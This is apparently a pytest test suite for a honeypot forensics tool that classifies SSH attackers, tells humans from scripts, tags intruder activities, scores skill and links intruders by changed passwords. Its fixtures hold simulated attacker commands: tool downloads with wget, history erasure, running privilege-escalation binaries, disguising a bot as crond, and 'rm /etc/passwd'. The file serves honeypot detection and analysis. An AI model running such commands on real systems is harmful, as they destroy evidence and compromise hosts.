from __future__ import annotations

import random
from datetime import datetime, timedelta

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from hipot.eventlog import UTC, LogWriter, sessionize
from hipot.forensics import (
    ActivityTag, Evidence, RegionMap, SkillClass, SourceClass, Verdict, analyze, build_profiles, build_trace,
    classify_operator, classify_source, coarse_duration, compute_account_timeline, detect_dictionary,
    link_intruders, reconstruct_input, score_skill, tag_activities,
)
from hipot.sensor import CredentialPolicy, Sensor

T0 = datetime(2006, 3, 1, tzinfo=UTC)


def at(seconds: float) -> datetime:
    return T0 + timedelta(seconds=seconds)


class World:
    """A sensor on synthetic time that scripts whole connections."""

    def __init__(self, accounts=None):
        accounts = accounts or {"ua2": "123456", "ua4": "ua4", "ua5": "ua5", "root": ("x9!Qa7#long", False)}
        self.sensor = Sensor(CredentialPolicy.from_simple(accounts, created=T0), log_writer=LogWriter(keep=True))
        self.t = 10.0

    def tick(self, dt=1.0) -> datetime:
        self.t += dt
        return at(self.t)

    def probe(self, ip, pairs=()):
        sid = self.sensor.connect(ip, self.tick())
        for u, p in pairs:
            self.sensor.authenticate(sid, u.encode(), p.encode(), self.tick())
        self.sensor.disconnect(sid, self.tick())

    def login(self, ip, user, pw, chunks=(), typed=(), at_s=None):
        """Log in and send ``chunks`` verbatim, plus each of ``typed`` one byte at a time."""
        if at_s is not None:
            self.t = at_s
        sid = self.sensor.connect(ip, self.tick())
        assert self.sensor.authenticate(sid, user.encode(), pw.encode(), self.tick()).granted
        sh = self.sensor.open_shell(sid)
        sh.start(self.tick())
        for c in chunks:
            if not sh.closed:
                sh.feed(c, self.tick())
        for line in typed:
            for b in line.encode():
                if not sh.closed:
                    sh.feed(bytes([b]), self.tick(0.2))
        self.sensor.disconnect(sid, self.tick())
        return sid

    def analyze(self, **kw):
        return analyze(self.sensor.log.records, **kw)

    def session(self, sid):
        return next(s for s in sessionize(self.sensor.log.records).sessions if s.session_id == sid)


def paste(*lines: str) -> list[bytes]:
    return [(ln + "\n").encode() for ln in lines]


# --- reconstruction ------------------------------------------------------------

def test_backspace_example():
    (line,) = reconstruct_input([b"c", b"a", b"t", b" ", b"x", b"\x08", b"y", b"\n"])
    assert line.text == b"cat y" and line.backspaces == 1


def test_paste_example():
    (line,) = reconstruct_input([b"wget http://e/x\n"])
    assert line.text == b"wget http://e/x" and line.chunks == 1 and line.max_chunk == 16 and line.pasted


@given(st.text(alphabet="abcdefghij -./", max_size=40), st.randoms(use_true_random=False))
def test_injected_typos_are_erased(text, rnd):
    data = bytearray()
    for ch in text.encode():
        if rnd.random() < 0.3:
            data += bytes([rnd.choice(b"xyz"), rnd.choice((0x08, 0x7F))])
        data.append(ch)
    data += b"\n"
    (line,) = reconstruct_input([bytes(data)])
    assert line.text == text.encode()


# --- dictionary detection and source classes --------------------------------------

@pytest.mark.parametrize("pairs,expected", [(11, True), (10, False), (0, False), (12027, True)])
def test_dictionary_threshold(pairs, expected):
    assert detect_dictionary(pairs) is expected


def test_scanner_never_authenticates():
    w = World()
    w.probe("172.16.0.1")
    (p,) = w.analyze().profiles.values()
    assert p.classification is SourceClass.SCANNER


def test_dictionary_with_one_success_stays_dictionary():
    w = World()
    pairs = [("root", f"pw{i}") for i in range(499)] + [("ua2", "123456")]
    w.probe("198.18.0.1", pairs[:-1])
    sid = w.sensor.connect("198.18.0.1", w.tick())
    w.sensor.authenticate(sid, b"ua2", b"123456", w.tick())
    w.sensor.disconnect(sid, w.tick())
    p = w.analyze().profiles["198.18.0.1"]
    assert p.distinct_pairs == 500 and p.successes == 1 and p.classification is SourceClass.DICTIONARY


def test_intruder_outranks_dictionary():
    w = World()
    w.probe("100.64.0.1", [("root", f"pw{i}") for i in range(50)])
    w.login("100.64.0.1", "ua2", "123456", paste("w"))
    assert w.analyze().profiles["100.64.0.1"].classification is SourceClass.INTRUDER


def test_login_without_commands_is_unknown():
    w = World()
    w.login("100.64.0.2", "ua2", "123456")
    assert w.analyze().profiles["100.64.0.2"].classification is SourceClass.UNKNOWN


@settings(max_examples=30, deadline=None)
@given(st.lists(st.tuples(st.sampled_from(["root", "admin", "test"]), st.sampled_from(["a", "b", "c", "d", "e"])),
                min_size=0, max_size=30), st.randoms(use_true_random=False))
def test_dictionary_depends_only_on_distinct_pairs(pairs, rnd):
    w1, w2 = World(), World()
    w1.probe("198.18.0.7", pairs)
    shuffled = list(pairs)
    rnd.shuffle(shuffled)
    w2.probe("198.18.0.7", shuffled)
    c1 = w1.analyze().profiles["198.18.0.7"]
    c2 = w2.analyze().profiles["198.18.0.7"]
    assert c1.classification == c2.classification
    assert c1.distinct_pairs == len(set(pairs))


def test_partition_covers_every_ip():
    w = World()
    rng = random.Random(3)
    for i in range(30):
        kind = rng.choice("sdi")
        ip = f"10.{i}.0.1"
        if kind == "s":
            w.probe(ip, [("root", "x")] * rng.randint(0, 3))
        elif kind == "d":
            w.probe(ip, [("root", f"p{k}") for k in range(rng.randint(11, 30))])
        else:
            w.login(ip, "ua2", "123456", paste("w"))
    a = w.analyze()
    ips = {r.ip for r in w.sensor.log.records if getattr(r, "ip", None)}
    assert set(a.profiles) == ips and all(p.classification is not None for p in a.profiles.values())


# --- operator verdicts -------------------------------------------------------------

def test_backspace_means_human():
    w = World()
    sid = w.login("100.64.0.1", "ua2", "123456", [b"uname -x\x7fa\n"])
    v = classify_operator(w.session(sid))
    assert v.verdict is Verdict.HUMAN and v.evidence[Evidence.BACKSPACE] == 1


def test_char_by_char_means_human():
    w = World()
    sid = w.login("100.64.0.1", "ua2", "123456", typed=["uname -a\r"])
    assert classify_operator(w.session(sid)).verdict is Verdict.HUMAN


def test_paste_only_means_script():
    w = World()
    sid = w.login("100.64.0.1", "ua2", "123456", paste("cd /tmp", "uname -a", "ps aux"))
    assert classify_operator(w.session(sid)).verdict is Verdict.SCRIPT


@pytest.mark.parametrize("chunks", [[b"w\n"], [b"w", b"\r"], []])
def test_single_short_command_inconclusive(chunks):
    assert classify_operator(chunks).verdict is Verdict.INCONCLUSIVE


def test_empty_session_too_short():
    v = classify_operator([])
    assert v.verdict is Verdict.INCONCLUSIVE and Evidence.TOO_SHORT in v.evidence


@given(st.lists(st.binary(min_size=1, max_size=12), max_size=8), st.integers(0, 8), st.integers(0, 12))
def test_backspace_monotone(chunks, where, pos):
    with_bs = list(chunks)
    i = min(where, len(with_bs))
    with_bs.insert(i, b"\x7f")
    assert classify_operator(with_bs).verdict is Verdict.HUMAN


# --- activity tags ----------------------------------------------------------------

def tags_for(*lines: str, typed=False):
    w = World()
    sid = w.login("100.64.0.1", "ua4", "ua4", [] if typed else paste(*lines), typed=[ln + "\r" for ln in lines] if typed else ())
    return tag_activities(w.session(sid))


@pytest.mark.parametrize("lines,tag", [
    (["passwd"], ActivityTag.PASSWORD_CHANGE),
    (["wget http://files.example.net/pscan.tgz"], ActivityTag.DOWNLOAD_BLOCKED),
    (["inband-get pscan.tgz"], ActivityTag.DOWNLOAD_INBAND),
    (["cd /dev/shm", "inband-get pscan.tgz", "tar xzf pscan.tgz"], ActivityTag.STEALTH_INSTALL),
    (["inband-get pscan.tgz", "tar xzf pscan.tgz", "./pscan 203.0.113"], ActivityTag.SSH_SCAN),
    (["cd /tmp", "inband-get emech.tgz", "tar xzf emech.tgz", "mv emech crond"], ActivityTag.IRC_BOT),
    (["cd /tmp", "inband-get mremap.tgz", "tar xzf mremap.tgz", "./mremap"], ActivityTag.PRIVESC_ATTEMPT),
    (["cd /tmp", "inband-get ld.tgz", "tar xzf ld.tgz", "./ldroot"], ActivityTag.PRIVESC_PARTIAL),
    (["cd /tmp", "inband-get mail.tgz", "tar xzf mail.tgz", "./mailer"], ActivityTag.PHISHING),
    (["unset HISTFILE"], ActivityTag.HISTORY_CLEANUP),
    (["rm -f ~/.bash_history"], ActivityTag.HISTORY_CLEANUP),
    (["export HISTFILE=/dev/null"], ActivityTag.HISTORY_CLEANUP),
    (["cat /proc/cpuinfo"], ActivityTag.FINGERPRINT_PROBE),
    (["ssh 10.0.0.23"], ActivityTag.BAIT_FOLLOWED),
    (["wget http://drivers.example.com/driver.bin"], ActivityTag.CONNECTIVITY_PROBE),
])
def test_activity_tags(lines, tag):
    assert tag in tags_for(*lines)


def test_plain_recon_has_no_tags():
    assert tags_for("w", "uname -a", "ps aux") == set()


def test_extract_in_home_is_not_stealth():
    assert ActivityTag.STEALTH_INSTALL not in tags_for("inband-get pscan.tgz", "tar xzf pscan.tgz")


def test_tags_stable_under_reanalysis():
    w = World()
    w.login("100.64.0.1", "ua4", "ua4", paste("cd /tmp", "inband-get emech.tgz", "tar xzf emech.tgz", "unset HISTFILE"))
    a, b = w.analyze(), w.analyze()
    assert [r.tags for r in a.intrusions] == [r.tags for r in b.intrusions]


def test_typed_and_pasted_give_same_tags():
    lines = ["cd /tmp", "inband-get emech.tgz", "tar xzf emech.tgz", "mv emech crond", "./crond"]
    assert tags_for(*lines) == tags_for(*lines, typed=True)


# --- skill ----------------------------------------------------------------------------

def skill_of(*lines: str):
    w = World()
    sid = w.login("100.64.0.1", "ua4", "ua4", paste(*lines))
    return score_skill(w.session(sid))


def test_repeated_failed_wget_is_script_kiddie():
    s = skill_of("wget http://files.example.net/emech.tgz", "wget http://files.example.net/emech.tgz")
    assert s.skill is SkillClass.SCRIPT_KIDDIE and s.score < 0


def test_fallback_and_cleanup_at_least_intermediate():
    s = skill_of("wget http://files.example.net/pscan.tgz", "inband-get pscan.tgz", "unset HISTFILE")
    assert s.skill in (SkillClass.INTERMEDIATE, SkillClass.BLACK_HAT) and s.score == 4


def test_empty_session_neutral():
    w = World()
    sid = w.login("100.64.0.1", "ua4", "ua4")
    s = score_skill(w.session(sid))
    assert s.score == 0 and s.skill is SkillClass.INTERMEDIATE


def test_black_hat():
    s = skill_of("wget http://files.example.net/pscan.tgz", "inband-get pscan.tgz", "unset HISTFILE",
                 "dmesg | grep -i vmware", "ssh 10.0.0.23")
    assert s.skill is SkillClass.BLACK_HAT


def test_clueless_penalties():
    s = skill_of("rm /etc/passwd", "kill 1")
    assert dict(s.factors) == {"permission_errors": -1} and s.skill is SkillClass.SCRIPT_KIDDIE


# --- linkage ----------------------------------------------------------------------------

def passwd_lines(old, new):
    return paste("passwd", old, new, new)


def test_same_changed_password_close_ips_merge():
    w = World()
    w.login("100.64.1.1", "ua4", "ua4", passwd_lines("ua4", "S3cret!"))
    w.login("100.64.77.9", "ua4", "S3cret!", paste("w"))
    (c,) = w.analyze().clusters
    assert len(c.session_ids) == 2 and sorted(c.ips) == ["100.64.1.1", "100.64.77.9"]


def test_distant_ips_split():
    w = World()
    w.login("100.64.1.1", "ua4", "ua4", passwd_lines("ua4", "S3cret!"))
    w.login("203.0.113.9", "ua4", "S3cret!", paste("w"))
    assert len(w.analyze().clusters) == 2


def test_region_map_links_distant_prefixes(tmp_path):
    f = tmp_path / "regions.tsv"
    f.write_text("100.64.0.0/16\tcountry-x\n203.0.113.0/24\tcountry-x\n")
    w = World()
    w.login("100.64.1.1", "ua4", "ua4", passwd_lines("ua4", "S3cret!"))
    w.login("203.0.113.9", "ua4", "S3cret!", paste("w"))
    from hipot.forensics import ForensicsConfig
    cfg = ForensicsConfig()
    cfg.regions = RegionMap.load(f)
    assert len(w.analyze(config=cfg).clusters) == 1


def test_missing_region_map_falls_back(tmp_path, caplog):
    assert RegionMap.load(tmp_path / "none.tsv") is None
    assert "falling back" in caplog.text


def test_reweakened_account_two_personas():
    w = World()
    w.login("100.64.1.1", "ua4", "ua4", passwd_lines("ua4", "S3cret!"))
    w.login("100.64.1.2", "ua4", "S3cret!", paste("w"))
    w.sensor.policy.reset_password(b"ua4", b"ua4", w.tick())
    w.login("203.0.113.9", "ua4", "ua4", passwd_lines("ua4", "Other#9"))
    w.login("203.0.113.10", "ua4", "Other#9", paste("w"))
    clusters = w.analyze().clusters
    assert sorted(len(c.session_ids) for c in clusters) == [2, 2]


def test_single_session_singleton():
    w = World()
    w.login("100.64.1.1", "ua4", "ua4", paste("w"))
    (c,) = w.analyze().clusters
    assert len(c.session_ids) == 1


def test_link_intruders_direct():
    w = World()
    a = w.login("100.64.1.1", "ua4", "ua4", passwd_lines("ua4", "S3cret!"))
    b = w.login("100.64.9.1", "ua4", "S3cret!", paste("w"))
    clusters = link_intruders([build_trace(w.session(a)), build_trace(w.session(b))])
    assert len(clusters) == 1


# --- timelines ------------------------------------------------------------------------

def test_ua2_style_timeline():
    w = World()
    w.probe("198.18.0.1", [("ua2", "x")] * 3)
    sid = w.sensor.connect("198.18.0.1", at(43200))
    w.sensor.authenticate(sid, b"ua2", b"123456", at(43200))
    w.sensor.disconnect(sid, at(43201))
    w.login("100.64.0.1", "ua2", "123456", paste("w"), at_s=43200 + 240 - 2)
    slog = sessionize(w.sensor.log.records)
    rows = {r.account: r for r in compute_account_timeline(slog.attempts, slog.sessions, {b"ua2": T0, b"ua5": T0})}
    assert rows[b"ua2"].d1 == timedelta(hours=12) and rows[b"ua2"].d2 == timedelta(minutes=4)
    assert coarse_duration(rows[b"ua2"].d1) == "Half a day" and coarse_duration(rows[b"ua2"].d2) == "4 minutes"
    assert rows[b"ua5"].first_success_ts is None and rows[b"ua5"].d1 is None and rows[b"ua5"].d2 is None


def test_first_success_is_intrusion_gives_null():
    w = World()
    w.login("100.64.0.1", "ua5", "ua5", paste("w"), at_s=5 * 86400 - 2)
    slog = sessionize(w.sensor.log.records)
    (row,) = compute_account_timeline(slog.attempts, slog.sessions, {b"ua5": T0})
    assert row.d1 == timedelta(days=5) and row.d2 is None and row.same_event
    assert coarse_duration(row.d2) == "null"


@pytest.mark.parametrize("seconds,text", [(60, "1 minute"), (120, "2 minutes"), (43200, "Half a day"),
                                          (7200, "2 hours"), (86400, "1 day"), (15 * 86400, "15 days")])
def test_coarse_duration(seconds, text):
    assert coarse_duration(timedelta(seconds=seconds)) == text


def test_intruder_profile_invariant():
    w = World()
    w.login("100.64.0.1", "ua2", "123456", paste("w"))
    w.login("100.64.0.2", "ua2", "123456")
    for p in w.analyze().profiles.values():
        if p.classification is SourceClass.INTRUDER:
            assert p.intrusions
        if p.classification is SourceClass.DICTIONARY:
            assert p.distinct_pairs > 10


def test_classify_source_with_sessions_argument():
    w = World()
    w.login("100.64.0.1", "ua2", "123456", paste("w"))
    slog = sessionize(w.sensor.log.records)
    p = build_profiles(slog)["100.64.0.1"]
    assert classify_source(p, slog.sessions) is SourceClass.INTRUDER
